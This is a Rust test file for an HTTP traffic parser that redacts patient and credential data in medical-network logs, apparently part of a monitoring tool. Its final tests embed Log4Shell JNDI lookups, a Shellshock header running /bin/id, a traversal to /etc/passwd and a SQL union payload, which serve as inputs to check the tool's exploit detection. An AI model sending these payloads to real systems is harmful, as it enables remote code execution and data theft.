use super::head::{first_line, probe};
use super::session::HttpSession;
use crate::context::Context;
use crate::half::Half;
use crate::protocols::Dir::{Orig, Resp};
use crate::protocols::{Dir, Probe, Session};
use crate::testing::{identity, output, play, rows, PlainRow};

fn played(script: &[(Dir, &[u8])], stream: &str, cut: usize) -> Vec<PlainRow> {
    let mut got = play(&mut HttpSession::default(), script, cut).remove(stream).unwrap_or_default();
    // Times are those of the test's clock, which goes by parts.
    for column in ["ts", "latency", "duration"] {
        got.iter_mut().for_each(|row| drop(row.remove(column)));
    }
    got
}

/// Rows of `stream` for a script that may be cut in every way.
pub fn uncut(script: &[(Dir, &[u8])], stream: &str) -> Vec<PlainRow> {
    let whole = played(script, stream, usize::MAX);
    for cut in [1, 7, 1460] {
        assert_eq!(played(script, stream, cut), whole, "cut {cut}");
    }
    whole
}

/// Rows of `stream` for a script that may be cut in every way and end anywhere.
pub fn check(script: &[(Dir, &[u8])], stream: &str) -> Vec<PlainRow> {
    let whole = uncut(script, stream);
    for (n, (dir, bytes)) in script.iter().enumerate() {
        for end in (0..bytes.len()).step_by(bytes.len().div_ceil(4000).pow(2).max(1)) {
            let mut part: Vec<_> = script[..n].to_vec();
            part.push((*dir, &bytes[..end]));
            played(&part, stream, usize::MAX);
        }
    }
    whole
}

fn http(script: &[(Dir, &[u8])]) -> Vec<PlainRow> {
    check(script, "http")
}

fn holds(row: &PlainRow, expected: &[(&str, &str)]) {
    for (column, value) in expected {
        assert_eq!(row[*column], *value, "{column}");
    }
}

#[test]
fn a_request_and_its_response() {
    let request = b"GET /static/js/app.js?page=2&mrn=MRN1 HTTP/1.1\r\nHost: PACS.local:8080\r\nUser-Agent: Mozilla/5.0 (X11) Gecko/20100101 id-1234567 a@b.c\r\n\
        Referer: http://portal.local/patient/DOE\r\nAuthorization: Basic dXNlcjpwYXNz\r\nCookie: s=SECRET\r\n\r\n";
    let response = b"HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 5\r\n\r\nhello";
    let rows = http(&[(Orig, request), (Resp, response)]);
    assert_eq!(rows.len(), 1);
    holds(
        &rows[0],
        &[
            ("method", "GET"),
            ("uri", "/static/js/app.js"),
            ("query_keys", "[page, {}]"),
            ("host", "pacs.local"),
            ("version", "1.1"),
            ("user_agent", "Mozilla/5.0 (X11) Gecko/20100101"),
            ("referrer_host", "portal.local"),
            ("auth_scheme", "basic"),
            ("username_seen", "true"),
            ("status_code", "200"),
            ("status_msg", "OK"),
            ("server", "nginx/1.22.1"),
            ("resp_mime", "text/html"),
            ("response_body_len", "5"),
            ("request_body_len", "0"),
            ("trans_depth", "1"),
            ("partial", "false"),
            ("malformed", "-"),
            ("fhir", "false"),
        ],
    );
    let all = format!("{rows:?}");
    for secret in ["MRN1", "SECRET", "DOE", "dXNl", "1234567", "a@b"] {
        assert!(!all.contains(secret), "{secret}");
    }
}

#[test]
fn people_are_not_named() {
    let request = b"GET / HTTP/1.1\r\nHost: Erikas-MBP.fritz.box:8080\r\nUser-Agent: Viewer/2.1 (Mustermann, Erika; X11) for Erika\r\n\
        Referer: http://iphone-von-erika.lan/\r\nContent-Type: application/mustermann-erika\r\n\r\n";
    let response =
        b"HTTP/1.1 200 OK\r\nServer: nginx Erika Mustermann MRN004711\r\nContent-Type: mrn004711/erika\r\nContent-Length: 0\r\n\r\n";
    holds(
        &http(&[(Orig, request), (Resp, response)])[0],
        &[
            ("host", "*-mbp.fritz.box"),
            ("referrer_host", "iphone-*.lan"),
            ("user_agent", "Viewer/2.1 (X11)"),
            ("content_type", "application/{}"),
            ("server", "nginx"),
            ("resp_mime", "{}/{}"),
        ],
    );
}

#[test]
fn pipelined_requests_and_every_kind_of_body() {
    let requests = b"POST /api/upload HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 10\r\n\r\n0123456789HEAD /index.html HTTP/1.1\r\nHost: a\r\n\r\n\
        PUT /api HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4;x=y\r\nwiki\r\n3\r\nabc\r\n0\r\nTrailer: x\r\n\r\nGET /x HTTP/1.0\r\n\r\n";
    let responses = b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 201 Created\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n\
        HTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\nHTTP/1.1 204 No Content\r\n\r\nHTTP/1.0 200 Patient DOE found\r\n\r\nuntil the end";
    let rows = http(&[(Orig, requests), (Resp, responses)]);
    let of = |column: &str| rows.iter().map(|r| r[column].clone()).collect::<Vec<_>>();
    assert_eq!(of("method"), ["POST", "HEAD", "PUT", "GET"]);
    assert_eq!(of("status_code"), ["201", "200", "204", "200"]);
    assert_eq!(of("request_body_len"), ["10", "0", "7", "0"]);
    assert_eq!(of("response_body_len"), ["5", "0", "0", "13"]);
    assert_eq!(of("status_msg")[3], "-");
    assert!(rows.iter().all(|r| r["partial"] == "false" && r["malformed"] == "-"), "{rows:?}");
}

#[test]
fn large_bodies_pass_unseen() {
    let body = vec![b'x'; 100_000];
    let response = [
        b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n".as_slice(),
        &body,
        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
    ]
    .concat();
    let rows = http(&[(Orig, b"GET /a.bin HTTP/1.1\r\n\r\nGET /b.bin HTTP/1.1\r\n\r\n"), (Resp, &response)]);
    holds(
        &rows[0],
        &[("response_body_len", "100000"), ("status_code", "200"), ("partial", "false")],
    );
    holds(&rows[1], &[("status_code", "404"), ("uri", "/{}.bin")]);
    let cut = &response[..90_000];
    holds(
        &http(&[(Orig, b"GET /a.bin HTTP/1.1\r\n\r\n"), (Resp, cut)])[0],
        &[("status_code", "200"), ("partial", "true")],
    );
}

#[test]
fn tunnels_and_upgrades_are_left_alone() {
    let rows = http(&[
        (Orig, b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"),
        (Resp, b"HTTP/1.1 200 OK\r\n\r\n"),
        (Orig, b"\x16\x03\x01GET / HTTP/1.1\r\n\r\n"),
    ]);
    assert_eq!(rows.len(), 1);
    holds(&rows[0], &[("method", "CONNECT"), ("host", "evil.example"), ("uri", "-")]);
    let upgrade = b"GET /ws HTTP/1.1\r\nUpgrade: websocket\r\n\r\n";
    let rows = http(&[(Orig, upgrade), (Resp, b"HTTP/1.1 101 Switching Protocols\r\n\r\n\x81\x05hello")]);
    holds(&rows[0], &[("status_code", "101"), ("partial", "false")]);
}

#[test]
fn who_is_to_be_let_in_is_no_part_of_the_host() {
    let secret = "ghptokensecret";
    for (target, header, host) in [
        ("GET http://ghpTOKENsecret:x@h.example/x", "", "h.example"),
        ("GET http://ghpTOKENsecret@h.example/x", "", "h.example"),
        ("GET http://a@ghpTOKENsecret:b@h.example:8080/x", "", "h.example"),
        ("CONNECT ghpTOKENsecret:x@h.example:443", "", "h.example"),
        ("GET /x", "Host: ghpTOKENsecret:pw@h.example\r\n", "h.example"),
        ("GET /x", "Host: ghpTOKENsecret@[2001:db8::1]:80\r\n", "2001:db8::1"),
        ("GET /x", "Host: ghpTOKENsecret:pw\r\n", "-"),
        ("GET /x", "Host: ghpTOKENsecret:pw@\r\n", "-"),
        (
            "GET /x",
            "Host: h.example\r\nReferer: https://ghpTOKENsecret:x@r.example/\r\n",
            "h.example",
        ),
    ] {
        let request = format!("{target} HTTP/1.1\r\n{header}\r\n");
        let rows = http(&[(Orig, request.as_bytes()), (Resp, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")]);
        holds(&rows[0], &[("host", host)]);
        let all = format!("{:?}", rows[0]).to_lowercase();
        assert!(!all.contains(secret), "{request}: {all}");
    }
}

#[test]
fn what_is_broken_says_so() {
    let broken = |response: &[u8]| http(&[(Orig, b"GET / HTTP/1.1\r\n\r\n"), (Resp, response)])[0].clone();
    holds(
        &broken(b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n"),
        &[("malformed", "content length")],
    );
    for size in ["zz", "+1", "", ";x", "8000000000000000", "10000000000000000"] {
        let response = format!("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n{size}\r\n");
        holds(&broken(response.as_bytes()), &[("malformed", "chunk size"), ("partial", "true")]);
    }
    holds(
        &broken(b"HTTP/1.1 200 OK\r\nno field\r\nContent-Length: 0\r\n\r\n"),
        &[("malformed", "header")],
    );
    holds(&broken(b""), &[("status_code", "-"), ("partial", "true")]);
    let long = [b"GET / HTTP/1.1\r\nA: ".as_slice(), &[b'a'; 70_000]].concat();
    holds(&http(&[(Orig, &long)])[0], &[("malformed", "head too long")]);
    holds(
        &http(&[(Resp, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")])[0],
        &[("method", "-"), ("trans_depth", "-"), ("partial", "true")],
    );
}

#[test]
fn after_a_gap_the_next_head_is_found() {
    let mut session = HttpSession::default();
    let mut out = output();
    let mut id = identity(80, 6);
    let mut show = |dir, offset, bytes: &[u8], lost: u64| {
        let mut cx = Context {
            ts: 1,
            offset,
            identity: &mut id,
            out: &mut out,
        };
        if lost > 0 {
            session.gap(dir, lost, &mut cx);
        }
        let mut used = 0;
        while used < bytes.len() {
            cx.offset = offset + used as u64;
            match session.data(dir, &bytes[used..], &mut cx) {
                crate::protocols::Step::Took(n) => used += n,
                _ => break,
            }
        }
    };
    show(Orig, 0, b"GET /a HTTP/1.1\r\n\r\n", 0);
    show(Resp, 0, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhel", 0);
    show(Orig, 19, b"GET /index.html HTTP/1.1\r\n\r\n", 0);
    show(
        Resp,
        1000,
        b"rest\r\n0\r\n\r\nHTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
        945,
    );
    session.end(&mut Context {
        ts: 2,
        offset: 0,
        identity: &mut id,
        out: &mut out,
    });
    let rows = rows(&mut out).remove("http").unwrap();
    assert!(rows.iter().any(|r| r["status_code"] == "200" && r["partial"] == "true"));
    assert!(rows.iter().any(|r| r["status_code"] == "404"));
}

/// Rows of a conversation whose request and response were each cut after so many bytes; `lost`: the rest was, and more came after it.
fn cut_at(request: &[u8], response: &[u8], lost: bool) -> Vec<PlainRow> {
    let (mut session, mut out, mut id) = (HttpSession::default(), output(), identity(80, 6));
    let mut halves = [Half::default(), Half::default()];
    for (dir, bytes) in [(Orig, request), (Resp, response)] {
        let half = &mut halves[dir as usize];
        half.feed(&mut session, dir, bytes, 1, &mut id, &mut out);
        if lost {
            half.gap(&mut session, dir, 500, 2, &mut id, &mut out);
        }
    }
    if lost {
        halves[0].feed(&mut session, Orig, b"GET /x HTTP/1.1\r\n\r\n", 3, &mut id, &mut out);
        halves[1].feed(
            &mut session,
            Resp,
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
            4,
            &mut id,
            &mut out,
        );
    }
    for dir in [Orig, Resp] {
        halves[dir as usize].cut(&mut session, dir, &mut id, &mut out);
    }
    session.end(&mut Context {
        ts: 5,
        offset: 0,
        identity: &mut id,
        out: &mut out,
    });
    rows(&mut out).remove("http").unwrap_or_default()
}

#[test]
fn of_heads_that_were_cut_whole_lines_are_read() {
    let request = b"POST /api/upload?page=1 HTTP/1.1\r\nHost: pacs.local\r\nUser-Agent: curl/8.1\r\nContent-Length: 12\r\n\r\n";
    let response = b"HTTP/1.1 201 Created\r\nServer: nginx/1.22\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok";
    let line = |head: &[u8], from: usize| head.windows(2).skip(from).position(|w| w == b"\r\n").map(|n| from + n + 2).unwrap();
    let (first, second) = (line(request, 0), line(request, line(request, 0)));
    for lost in [false, true] {
        for end in 5..request.len() - 1 {
            let rows = cut_at(&request[..end], b"", lost);
            assert_eq!(rows.len(), if lost { 2 } else { 1 }, "{end} {lost} {rows:?}");
            let shown = |at: usize, value: &'static str| if end >= at { value } else { "-" };
            let wanted = [
                ("method", "POST"),
                ("partial", "true"),
                ("malformed", "-"),
                ("uri", shown(first - 2, "/api/upload")),
                ("version", shown(first - 2, "1.1")),
                ("host", shown(second, "pacs.local")),
                ("request_body_len", shown(request.len() - 2, "12")),
                ("username_seen", "-"),
                ("trans_depth", "1"),
            ];
            holds(&rows[0], &wanted);
        }
        let (status, server) = (12, line(response, line(response, 0)));
        for end in 1..response.len() - 3 {
            let rows = cut_at(b"GET / HTTP/1.1\r\n\r\n", &response[..end], lost);
            assert_eq!(rows.len(), if lost { 2 } else { 1 }, "{end} {lost} {rows:?}");
            let shown = |at: usize, value: &'static str| if end >= at { value } else { "-" };
            let wanted = [
                ("method", "GET"),
                ("partial", "true"),
                ("malformed", "-"),
                ("status_code", shown(status, "201")),
                ("status_msg", shown(line(response, 0), "Created")),
                ("server", shown(server, "nginx/1.22")),
                ("response_body_len", shown(response.len() - 4, "2")),
            ];
            holds(&rows[0], &wanted);
        }
    }
    // The answer to a request of which only the head was cut is still its answer.
    let rows = cut_at(&request[..60], b"HTTP/1.1 204 No Content\r\n\r\n", true);
    holds(&rows[0], &[("method", "POST"), ("status_code", "204"), ("partial", "true")]);
    assert_eq!(rows.len(), 2);
}

#[test]
fn a_body_that_ends_with_the_connection_is_whole_only_if_that_closed() {
    let (request, response) = (b"GET / HTTP/1.0\r\n\r\n", b"HTTP/1.0 200 OK\r\n\r\nuntil the end");
    let closed = &play(&mut HttpSession::default(), &[(Orig, request), (Resp, response)], usize::MAX)["http"];
    let open = cut_at(request, response, false);
    for (rows, partial) in [(closed, "false"), (&open, "true")] {
        holds(&rows[0], &[("partial", partial), ("response_body_len", "13"), ("version", "1.0")]);
    }
}

#[test]
fn losses_in_the_body_of_a_request_leave_it_its_response() {
    let (mut session, mut out, mut id) = (HttpSession::default(), output(), identity(80, 6));
    let mut halves = [Half::default(), Half::default()];
    halves[0].feed(&mut session, Orig, b"POST /api HTTP/1.1\r\nTransfer-Enc", 1, &mut id, &mut out);
    for n in 0..3 {
        halves[0].gap(&mut session, Orig, 100, n, &mut id, &mut out);
        halves[0].feed(&mut session, Orig, b"\x01\x02 some content", n, &mut id, &mut out);
    }
    halves[1].feed(&mut session, Resp, b"HTTP/1.1 204 No Content\r\n\r\n", 9, &mut id, &mut out);
    let rows = rows(&mut out).remove("http").unwrap();
    assert_eq!(rows.len(), 1);
    holds(&rows[0], &[("method", "POST"), ("status_code", "204"), ("partial", "true")]);
}

#[test]
fn templates_keep_only_known_words() {
    let template = |path: &str| super::uri::template(path.as_bytes()).unwrap();
    assert_eq!(template("/"), "/");
    assert_eq!(
        template("/dicom-web/studies/1.2.3/series/9.8/metadata"),
        "/dicom-web/studies/{}/series/{}/metadata"
    );
    assert_eq!(template("/fhir/Patient/MRN1/_history/2"), "/fhir/Patient/{}/_history/{}");
    assert_eq!(template("/patients/DOE%5EJANE/report.pdf;jsessionid=1"), "/patients/{}/report.pdf");
    assert_eq!(template("/DOE_JANE.pdf"), "/{}.pdf");
    let keys = |query: &str| super::uri::keys(query.as_bytes());
    assert_eq!(
        keys("subject:Patient.identifier=x&PatientName=DOE&DOE=1&_count=5&JANE=2"),
        ["subject:Patient.identifier", "PatientName", "{}", "_count"]
    );
}

#[test]
fn the_probe_is_strict() {
    for bytes in [
        b"GET / HTTP/1.1\r\n".as_slice(),
        b"HTTP/1.1 200 OK\r\n",
        b"OPTIONS * HTTP/1.0\r\n",
        b"tail of a body\r\nHTTP/1.1 200 OK\r\n",
    ] {
        assert_eq!(probe(Orig, bytes), Probe::Certain, "{}", bytes.escape_ascii());
    }
    for bytes in [b"G".as_slice(), b"GET ", b"GET rtsp:", b"HTTP"] {
        assert_eq!(probe(Orig, bytes), Probe::Unsure, "{}", bytes.escape_ascii());
    }
    for bytes in [b"GET /".as_slice(), b"GET /index", b"POST /api HTTP/1"] {
        assert_eq!(probe(Orig, bytes), Probe::Likely, "{}", bytes.escape_ascii());
    }
    let never: &[&[u8]] = &[
        b"\x16\x03\x01\x02\x00\x01",
        b"SSH-2.0-OpenSSH\r\n",
        b"220 ftp ready\r\n",
        b"\x0bMSH|^~\\&|",
        b"MSH|^~\\&|A",
        b"\x00\x00\x00\x85\xffSMB",
        b"\x01\x00\x00\x00\x00\xcd\x00\x01",
        b"RFB 003.008\n",
        b"GETTING started",
        b"GET / FTP/1.1\r\n",
        b"HTTP/2.0 200\r\n",
        b"\xff\xfb\x01",
        b"EHLO host\r\n",
    ];
    for bytes in never {
        assert_eq!(probe(Orig, bytes), Probe::Never, "{}", bytes.escape_ascii());
    }
}

#[test]
fn damaged_conversations_give_the_same_rows_however_they_are_cut() {
    let requests = b"POST /fhir/Patient HTTP/1.1\r\nContent-Type: application/fhir+json\r\nContent-Length: 25\r\n\r\n{\"resourceType\":\"Patient\"}GET /x HTTP/1.1\r\n\r\n";
    let responses =
        b"HTTP/1.1 201 Created\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nHTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nabc";
    let mut state = 1u32;
    let mut random = |below: usize| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 8) as usize % below
    };
    for _ in 0..400 {
        let (mut asks, mut answers) = (requests.to_vec(), responses.to_vec());
        for _ in 0..1 + random(3) {
            let at = random(asks.len());
            asks[at] = b"\r\n 0:/\xff9"[random(8)];
            let at = random(answers.len());
            answers[at] = b"\r\n 0:/\xff9"[random(8)];
        }
        uncut(&[(Orig, &asks), (Resp, &answers)], "http");
    }
}

#[test]
fn what_is_no_start_line_does_not_become_one_with_more_bytes() {
    let lines: [&[u8]; 7] = [
        b"GET /a HTTP/1.1\r\n",
        b"GET /a\x00\xffb HTTP/1.1\r\n",
        b"GET /a\rb HTTP/1.1\r\n",
        b"GET a\x00 HTTP/1.1\r\n",
        b"GET ?a HTTP/1.1\r\n",
        b"CONNECT a:443 HTTP/1.1\r\n",
        b"HTTP/1.1 200 OK\xff\r\n",
    ];
    for line in lines {
        for cut in 1..line.len() {
            if first_line(&line[..cut]) == Probe::Never {
                assert_eq!(first_line(line), Probe::Never, "{} at {cut}", line.escape_ascii());
            }
        }
    }
    assert_eq!(first_line(lines[1]), Probe::Certain);
}

#[test]
fn exploits_are_marked_and_not_kept() {
    for (target, header, marks) in [
        ("/a?x=$%7bjndi:ldap://10.9.9.9/zz%7d", "X-Api-Version: 1", "[exploit-log4shell]"),
        ("/", "X-Api-Version: ${${lower:j}ndi:rmi://10.9.9.9/zz}", "[exploit-log4shell]"),
        ("/", "User-Agent: () { :;}; /bin/id", "[exploit-shellshock]"),
        (
            "/images/../../../etc/passwd",
            "Cookie: () { zz",
            "[exploit-shellshock, exploit-traversal]",
        ),
        ("/a?q=1%20union%20select%20zz", "Accept: */*", "[exploit-sql]"),
        ("/a?q=union", "Cookie: price=$5", "[]"),
    ] {
        let request = format!("GET {target} HTTP/1.1\r\nHost: x\r\n{header}\r\n\r\n");
        let rows = http(&[
            (Orig, request.as_bytes()),
            (Resp, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"),
        ]);
        assert_eq!(rows[0]["marks"], marks, "{request}");
        assert!(!format!("{rows:?}").contains("10.9.9.9"), "{rows:?}");
    }
}

#[test]
fn exploits_in_bodies_of_requests_are_marked() {
    let gzip = |text: &str| {
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::Write::write_all(&mut gzip, text.as_bytes()).unwrap();
        gzip.finish().unwrap()
    };
    let patient = "{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"${${lower:j}ndi:ldap://x}\"}]}";
    let plain = "{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"ZZTEST\"}]}";
    for (head, body, marks) in [
        (
            "Content-Type: application/x-www-form-urlencoded",
            b"user=%24%7bjndi%3aldap%3a%2f%2fx%7d".to_vec(),
            "[exploit-log4shell]",
        ),
        ("Content-Type: application/fhir+json", patient.into(), "[exploit-log4shell]"),
        ("Content-Type: application/fhir+json", plain.into(), "[]"),
        (
            "Content-Type: application/json; charset=utf-8\r\nContent-Encoding: gzip",
            gzip(patient),
            "[exploit-log4shell]",
        ),
        ("Content-Type: text/plain", patient.into(), "[exploit-log4shell]"),
        ("Content-Type: application/octet-stream", patient.into(), "[]"),
    ] {
        let length = body.len();
        let request = [
            format!("POST /fhir/Patient HTTP/1.1\r\n{head}\r\nContent-Length: {length}\r\n\r\n").as_bytes(),
            &body,
        ]
        .concat();
        let answer = [
            format!("HTTP/1.1 200 OK\r\n{head}\r\nContent-Length: {length}\r\n\r\n").as_bytes(),
            &body,
        ]
        .concat();
        let get = b"GET /fhir/Patient/1 HTTP/1.1\r\n\r\n";
        let rows = http(&[(Orig, &request), (Resp, &answer), (Orig, get), (Resp, &answer)]);
        assert_eq!([&rows[0]["marks"], &rows[1]["marks"]], [marks, "[]"], "{head}");
    }
}
